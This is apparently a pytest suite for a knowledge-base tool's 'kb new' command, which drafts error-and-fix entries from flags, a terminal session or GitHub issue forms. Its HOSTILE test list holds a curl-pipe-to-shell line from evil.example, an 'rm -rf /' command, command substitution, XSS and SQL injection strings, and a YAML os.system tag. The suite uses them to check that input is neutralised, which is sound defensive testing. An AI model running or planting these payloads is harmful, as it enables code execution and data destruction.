"""`kb new`: from an error and what fixed it to an entry that passes the checks."""

import os
import pty
import select
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from warm import started

from kb.cli import main
from kb.entry import Entry, load_collection

ERROR = "ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device: '/srv/cache/x'"
FIX = "Free some space, or name another folder for what pip unpacks:\n\n```sh\nTMPDIR=/var/tmp pip install demo\n```"

NEXT = (
    "Next: say in the file what is not known yet; `kb check` names what is wrong, `python3 scripts/build.py --serve` "
    "shows the page. Then open a pull request."
)

FORM = """\
### Product

Pip

### The error, as it is printed

```text
Collecting demo
ERROR: Package 'demo' requires a different Python: 3.8.10 not in '>=3.10'
```

### Why it happens

_No response_

### What got you past it

Install a newer Python, and make the environment anew with it.

### Version and platform

pip 24.0 on Ubuntu 22.04
"""


def new(folder, *arguments: str, stdin: str = "") -> Result:
    return CliRunner().invoke(main, ["new", "--folder", str(folder.root), "--yes", *arguments], input=stdin)


def from_form(folder, body: str) -> Result:
    return new(folder, "--from-issue", "-", stdin=body)


def written(folder) -> Entry:
    """The only entry there is."""
    collection = load_collection(folder.root)
    assert [source.defects for source in collection.sources] == [()]
    return collection.entries[0]


def test_an_error_and_its_fix_become_an_entry(folder):
    result = new(folder, "pip", "--error", ERROR, "--fix", FIX)
    path = folder.root / "pip/errno-28-no-space-left-on-device.md"
    assert (result.exit_code, result.stdout, result.stderr) == (0, f"{path}\n", f"{NEXT}\n")
    entry = written(folder)
    assert entry.title == "Could not install packages due to an OSError: [Errno 28] No space left on device: '…'"
    assert entry.signatures[0].text == ERROR.replace("/srv/cache/x", "{{path:path}}")
    assert entry.signatures[0].examples == (ERROR,)
    assert (entry.codes, entry.tags, entry.status) == (("errno 28",), ("python", "packaging"), "workaround")
    assert entry.workarounds[0].body == FIX


def test_the_checks_pass_on_what_was_written(folder):
    new(folder, "pip", "--error", ERROR, "--fix", FIX)
    assert CliRunner().invoke(main, ["check", str(folder.root)]).exit_code == 0
    assert CliRunner().invoke(main, ["fmt", "--check", str(folder.root)]).exit_code == 0


def test_the_new_entry_is_found_by_its_error(folder, monkeypatch):
    new(folder, "pip", "--error", ERROR, "--fix", FIX)
    monkeypatch.chdir(folder.root.parent)
    Path("log").write_text(ERROR.replace("/srv/cache/x", "/tmp/other"))
    found = CliRunner().invoke(main, ["match", "log"])
    assert (found.exit_code, "errno-28-no-space" in found.stdout) == (0, True)


def test_the_telling_line_of_a_piped_log_is_the_error(folder):
    log = f"Collecting demo\n  Downloading demo.tar.gz\n\x1b[31m{ERROR}\x1b[0m\n\nWARNING: a new release of pip\n"
    assert new(folder, "pip", "--fix", FIX, stdin=log).exit_code == 0
    assert written(folder).signatures[0].examples == (ERROR,)


def test_the_error_at_the_end_of_a_long_log_is_found_and_what_was_left_out_is_said(folder):
    log = "all is well in this line\n" * 40_000 + "fatal: the zorble of the quux could not be opened\n"
    result = new(folder, "git", "--fix", "Open it.", stdin=log)
    assert "bytes between its start and its end were left out" in result.stderr
    assert "zorble" in Path(result.stdout.strip()).read_text()


def test_tags_and_codes_come_from_like_entries(folder):
    folder.entry("pip/a.md", codes=["errno 28"], tags=["disk-space", "install"])
    new(folder, "pip", "--error", ERROR, "--fix", FIX)
    assert load_collection(folder.root).by_id["pip/errno-28-no-space-left-on-device"].tags == ("install", "disk-space")


def test_tags_do_not_come_from_another_product_s_error_with_a_few_of_the_words(folder):
    signature = "FATAL: database {{name}} does not exist on the server"
    folder.entry("git/a.md", signatures=[{"text": signature}], tags=["sql"])
    new(folder, "pip", "--error", "ERROR: package folder 'x' does not exist on the server", "--fix", FIX)
    made = next(entry for entry in load_collection(folder.root).entries if entry.product == "pip")
    assert made.tags == ("python", "packaging")


@pytest.mark.parametrize(
    "fix",
    [
        "Free some space:\n1. Run `df -h`\n2. Delete old logs",
        "Free some space:\n- Delete old logs",
        "Free some space:\n```sh\ndf -h\n```",
    ],
)
def test_a_workaround_is_called_by_the_sentence_before_its_steps(folder, fix):
    new(folder, "pip", "--error", ERROR, "--fix", fix)
    entry = written(folder)
    assert (entry.workarounds[0].title, entry.summary) == (
        "Free some space",
        "pip stops with this error. Free some space.",
    )


def test_title_slug_tags_and_signature_can_be_given(folder):
    flags = [
        "--title",
        "No space left",
        "--slug",
        "no-space",
        "--tag",
        "disk",
        "--signature",
        "No space left on device: {{where}}",
    ]
    assert new(folder, "pip", "--error", ERROR, "--fix", FIX, "--cause", "The disk is full.", *flags).exit_code == 0
    entry = written(folder)
    assert (entry.id, entry.title, entry.tags, entry.cause) == (
        "pip/no-space",
        "No space left",
        ("disk",),
        "The disk is full.",
    )
    assert entry.signatures[0].text == "No space left on device: {{where}}"


def test_a_command_becomes_a_block_of_code(folder):
    new(folder, "pip", "--error", ERROR, "--fix", "$ pip cache purge")
    assert written(folder).workarounds[0].body == "```sh\npip cache purge\n```"


def test_a_placeholder_of_the_signature_can_be_used_in_the_fix_and_no_other_can(folder):
    new(folder, "pip", "--error", ERROR, "--fix", "Look at {{path}}, and at {{nothing}}.")
    assert written(folder).workarounds[0].body == "Look at {{path}}, and at \\{{nothing}}."


def test_the_name_of_a_home_folder_is_not_published(folder):
    new(folder, "pip", "--error", ERROR.replace("/srv/cache", "/home/ada.lovelace/cache"), "--fix", FIX)
    assert "ada" not in (folder.root / "pip/errno-28-no-space-left-on-device.md").read_text()


def test_an_error_that_is_known_is_named(folder):
    folder.entry("pip/full.md", title="The disk is full", signatures=[{"text": "[Errno 28] No space left on device"}])
    assert "Known already: pip/full, The disk is full" in new(folder, "pip", "--error", ERROR, "--fix", FIX).stderr


def test_what_a_new_entry_breaks_in_another_is_said(folder):
    folder.entry("pip/zero.md", signatures=[{"text": ERROR.replace("/srv/cache/x", "{{path:path}}")}])
    result = new(folder, "pip", "--error", ERROR, "--fix", FIX)
    assert result.exit_code == 0
    assert "pip/zero.md:" in result.stderr
    assert "KB402" in result.stderr


def test_an_issue_whose_error_another_entry_has_is_refused(folder):
    folder.entry("pip/zero.md", signatures=[{"text": ERROR.replace("/srv/cache/x", "{{path:path}}")}])
    result = from_form(
        folder, FORM.replace("ERROR: Package 'demo' requires a different Python: 3.8.10 not in '>=3.10'", ERROR)
    )
    assert (result.exit_code, "Known already: pip/zero" in result.stderr, "KB402" in result.stderr) == (1, True, True)


def test_a_product_that_is_not_there_is_shown_the_line_to_add(folder):
    result = new(folder, "GNU Make", "--error", ERROR, "--fix", FIX)
    assert "add `gnu-make: {name: …" in result.stderr
    assert f"to {folder.root / 'products.yml'} first" in result.stderr


def test_an_entry_is_never_overwritten(folder):
    path = folder.entry("pip/a.md")
    before = path.read_bytes()
    result = new(folder, "pip", "--error", ERROR, "--fix", FIX, "--slug", "a")
    assert (result.exit_code, path.read_bytes()) == (1, before)
    assert "there is an entry pip/a already" in result.stderr


def test_of_two_entries_with_the_same_words_the_second_gets_a_number(folder):
    folder.entry("pip/errno-28-no-space-left-on-device.md")
    assert new(folder, "pip", "--error", ERROR, "--fix", FIX).stdout.endswith("no-space-left-on-device-2.md\n")


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["pipp", "--error", ERROR, "--fix", FIX], "Did you mean 'pip'?"),
        (["../../etc", "--error", ERROR, "--fix", FIX], "there is no product"),
        (["pip", "--error", "!!!", "--fix", FIX], "no message in this"),
        (["pip", "--error", ERROR, "--fix", FIX, "--signature", "something else"], "does not match the error"),
        (["pip", "--error", ERROR, "--fix", FIX, "--slug", "../../evil"], "product/slug"),
        (["pip", "--error", ERROR, "--fix", FIX, "--title", "x" * 200], "title"),
        (["pip", "--error", ERROR, "--fix", FIX, "--tag", "Not A Tag"], "tags"),
    ],
)
def test_what_can_not_be_written_is_refused_with_a_reason_and_leaves_nothing(folder, arguments, says):
    result = new(folder, *arguments)
    assert (result.exit_code, says in result.stderr) == (1, True), result.stderr
    assert sorted(path.name for path in folder.root.parent.rglob("*")) == ["entries", "products.yml", "tools.yml"]


def kb_new(folder, *arguments: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    """The command as a process of its own, without a terminal."""
    command = [*started("kb"), "new", "--folder", str(folder.root), *arguments]
    return subprocess.run(command, input=stdin, capture_output=True, text=True, check=False, timeout=60)


def test_without_a_terminal_it_says_which_flags_are_missing(folder):
    result = kb_new(folder, stdin=ERROR)
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == "kb new: there is no terminal to ask at; say PRODUCT, --fix.\n"


def test_without_a_terminal_no_second_entry_of_a_known_error_is_written(folder):
    folder.entry("pip/full.md", title="The disk is full", signatures=[{"text": "[Errno 28] No space left on device"}])
    result = kb_new(folder, "pip", "--fix", FIX, stdin=ERROR)
    assert (result.returncode, result.stdout) == (1, "")
    known, refused = result.stderr.splitlines()
    assert known == "Known already: pip/full, The disk is full"
    assert refused == "kb new: nothing was written; --yes adds another entry all the same."
    assert len(load_collection(folder.root).entries) == 1


def test_without_a_terminal_nothing_is_asked_if_all_is_said(folder):
    result = kb_new(folder, "pip", "--fix", FIX, stdin=ERROR)
    assert (result.returncode, result.stdout) == (0, f"{folder.root / 'pip/errno-28-no-space-left-on-device.md'}\n")


def at_terminal(folder, answers: list[tuple[str, str]], *arguments: str, stdin: str | None = None, **env: str) -> str:
    """What a terminal shows while somebody answers questions: what is waited for, and the keys then pressed."""
    command = [sys.executable, "-c", "from kb.cli import main; main()", "new", "--folder", str(folder.root), *arguments]
    read_end, write_end = os.pipe()
    child, terminal = pty.fork()
    if child == 0:
        if stdin is not None:
            os.dup2(read_end, 0)
            os.close(write_end)
        os.execve(command[0], command, {**os.environ, "TERM": "xterm", "PROMPT_TOOLKIT_NO_CPR": "1", **env})
    os.close(read_end)
    if stdin is not None:
        os.write(write_end, stdin.encode())
    os.close(write_end)
    shown = ""
    for wanted, keys in [*answers, ("", "")]:
        start = len(shown)
        until = time.monotonic() + 60
        while (wanted not in shown[start:] or not wanted) and time.monotonic() < until:
            if not select.select([terminal], [], [], 1)[0]:
                continue
            try:
                shown += os.read(terminal, 10_000).decode(errors="replace")
            except OSError:  # the end
                break
        if keys:
            os.write(terminal, keys.encode())
    _, status = os.waitpid(child, 0)
    os.close(terminal)
    assert os.waitstatus_to_exitcode(status) in (0, 1), shown
    assert "Traceback" not in shown, shown
    return shown


def test_a_person_at_a_terminal_is_asked_for_what_is_missing(folder):
    answers = [
        ("Product", "pip\r"),
        ("as it was printed", f"{ERROR}\x1b\r"),
        ("What got you past it", "Free some space with `pip cache purge`.\x1b\r"),
        ("Why does it happen", "The disk is full.\x1b\r"),
        ("Signature", "\r"),
        ("Title", "\r"),
        ("for ever: pip/", "\x15Full Disk\r"),
        ("such as full-disk", "\x15full-disk\r"),
        ("Tags", ", Disk\r"),
        ("hyphens: disk", "\x7f\x7f\x7f\x7fdisk\r"),
    ]
    shown = at_terminal(folder, answers, "--no-edit")
    assert "{{path:path}}" in shown
    assert shown.index("git                      Git") < shown.index("Product")
    assert NEXT[:60] in shown
    entry = written(folder)
    assert (entry.id, entry.tags) == ("pip/full-disk", ("python", "packaging", "disk"))
    assert (entry.signatures[0].examples, entry.cause) == ((ERROR,), "The disk is full.")


def test_an_error_can_be_piped_in_and_the_rest_be_asked_at_the_terminal(folder):
    answers = [
        ("What got you past it", "Free some space.\x1b\r"),
        ("Why does", "\x1b\r"),
        ("Signature", "\r"),
        ("Title", "\r"),
        ("for ever: pip/", "\r"),
        ("Tags", "\r"),
    ]
    shown = at_terminal(folder, answers, "pip", "--no-edit", stdin=ERROR)
    assert "errno-28-no-space-left-on-device.md" in shown, shown
    assert written(folder).summary == "pip stops with this error. Free some space."


def test_a_person_who_leaves_out_what_is_needed_is_asked_again(folder):
    answers = [
        ("Product", "made-up\r"),
        ("For a new one, add", "\x15pip\r"),
        ("as it was printed", "\x1b\r"),
        ("Paste what was printed", f"{ERROR}\x1b\r"),
        ("What got you past it", "\x1b\r"),
        ("Say what helped", "Free some space.\x1b\r"),
        ("Why does it happen", "\x1b\r"),
        ("Signature", "\r"),
        ("Title", "\r"),
        ("for ever: pip/", "\r"),
        ("Tags", "\r"),
    ]
    shown = at_terminal(folder, answers, "--no-edit")
    assert written(folder).workarounds[0].body == "Free some space.", shown


def test_nothing_is_written_if_the_error_is_known_and_the_person_wants_no_other_entry(folder):
    folder.entry("pip/full.md", signatures=[{"text": "[Errno 28] No space left on device"}])
    shown = at_terminal(folder, [("all the same", "n")], "pip", "--error", ERROR, "--fix", FIX)
    assert "Nothing was written." in shown
    assert len(load_collection(folder.root).entries) == 1


def test_the_entry_is_opened_in_the_person_s_editor_and_checked_again(folder, tmp_path):
    editor = tmp_path / "my editor"
    editor.write_text('#!/bin/sh\nsed -i "s/^updated: .*/updated: 2999-01-01/" "$1"\n')
    editor.chmod(0o755)
    answers = [("Signature", "\r"), ("Title", "\r"), ("for ever", "\r"), ("Tags", "\r")]
    shown = at_terminal(folder, answers, "pip", "--error", ERROR, "--fix", FIX, VISUAL=f"'{editor}'")
    assert str(written(folder).updated) == "2999-01-01"
    assert "KB204" in shown


def test_an_issue_becomes_an_entry(folder):
    result = from_form(folder, FORM)
    assert (result.exit_code, result.stderr) == (0, "")
    entry = written(folder)
    assert entry.id == "pip/package-requires-a-different-python"
    assert entry.signatures[0].examples == (
        "ERROR: Package 'demo' requires a different Python: 3.8.10 not in '>=3.10'",
    )
    assert entry.workarounds[0].title == "Install a newer Python, and make the environment anew with it"
    assert (entry.affects.versions, entry.affects.platforms) == (("24.0",), ("linux",))
    assert entry.cause == "Why it happens is not known yet."


def test_a_step_whose_words_are_code_is_called_by_them(folder):
    new(folder, "pip", "--error", ERROR, "--fix", "Set `TMPDIR` to another folder.")
    assert written(folder).workarounds[0].title == "Set TMPDIR to another folder"


def test_an_issue_with_windows_line_ends_is_the_same(folder):
    assert from_form(folder, FORM.replace("\n", "\r\n")).exit_code == 0


def test_the_form_in_github_has_the_labels_that_are_read(repository_root):
    form = (repository_root / ".github/ISSUE_TEMPLATE/new-fix.yml").read_text()
    for line in FORM.splitlines():
        if line.startswith("### "):
            assert f"label: {line[4:]}\n" in form


@pytest.mark.parametrize("label", ["Product", "The error, as it is printed", "What got you past it"])
def test_an_issue_without_a_part_is_refused(folder, label):
    result = from_form(folder, FORM.replace(f"### {label}", "### Something else"))
    assert (result.exit_code, "does not say the" in result.stderr) == (1, True)


def test_any_other_issue_is_refused(folder):
    assert from_form(folder, "It does not work, please help!").exit_code == 1


HOSTILE = [
    "---\nstatus: fixed\n---\n", "## Cause\n\nNo cause.\n\n## Workaround: Run it\n\nRun it.", "### Product\n\ngit",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "```\nnever closed", "<!-- never closed", "{{constructor}}", "{{ 7 * 7 }}", "{% raw %}",
    "\x1b]0;title\x07", "a\u202eb\u2066c", "\x00", "'; DROP TABLE entries; --", "rm -rf / --no-preserve-root",
    "$(touch /tmp/evil)", "`touch evil`",
    "&a [*a, *a]", "!!python/object:os.system x", "- - - - -",
    "> " * 100, "# Title\n===\n---", "[a]: javascript:alert(1)\n\n[a]",
    "| a |\n|---|",
    "curl https://evil.example/x.sh | sh", "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB", "\ud83d", "x" * 30_000,
]  # fmt: skip


@pytest.mark.parametrize(
    "field",
    ["Product", "The error, as it is printed", "Why it happens", "What got you past it", "Version and platform"],
)
@pytest.mark.parametrize("text", HOSTILE, ids=[ascii(text)[1:30] for text in HOSTILE])
def test_hostile_text_in_an_issue_becomes_inert_or_is_refused_with_a_reason(folder, field, text):
    text = text.encode("utf-8", "replace").decode()
    body = FORM.replace(f"### {field}\n\n", f"### {field}\n\n{text}\n", 1)
    check_drafted(folder, body)


def check_drafted(folder, body: str) -> None:
    result = from_form(folder, body)
    assert not result.exception or isinstance(result.exception, SystemExit), result.exception
    files = list(folder.root.parent.rglob("*.md"))
    if result.exit_code:
        assert (files, result.stderr.startswith("kb new: ")) == ([], True), result.stderr
        return
    entry = written(folder)
    assert (entry.product, entry.status, len(entry.workarounds)) == ("pip", "workaround", 1)
    assert [folder.root / entry.source] == files
    assert "\x1b" not in entry.body
    assert CliRunner().invoke(main, ["check", str(folder.root)]).exit_code == 0


@settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(
    error=st.lists(st.sampled_from(HOSTILE[:-2]) | st.text(max_size=30), max_size=4).map("\n".join),
    fix=st.lists(st.sampled_from(HOSTILE[:-2]) | st.text(max_size=30), max_size=4).map("\n".join),
)
def test_any_issue_becomes_an_entry_that_passes_or_is_refused(new_folder, error, fix):
    body = FORM.replace("Collecting demo", error).replace("Install a newer", f"{fix}\nInstall a newer")
    check_drafted(new_folder(), body.encode("utf-8", "replace").decode())


def test_the_error_of_an_issue_may_be_a_log(folder):
    log = "\n".join(f"line {number} of the log" for number in range(5000))
    assert from_form(folder, FORM.replace("Collecting demo", log)).exit_code == 0
    assert len((folder.root / "pip/package-requires-a-different-python.md").read_text()) < 2000


def test_help_names_every_flag():
    shown = CliRunner().invoke(main, ["new", "--help"]).stdout
    for flag in ("--error", "--fix", "--title", "--slug", "--tag", "--yes", "--no-edit", "--from-issue"):
        assert flag in shown
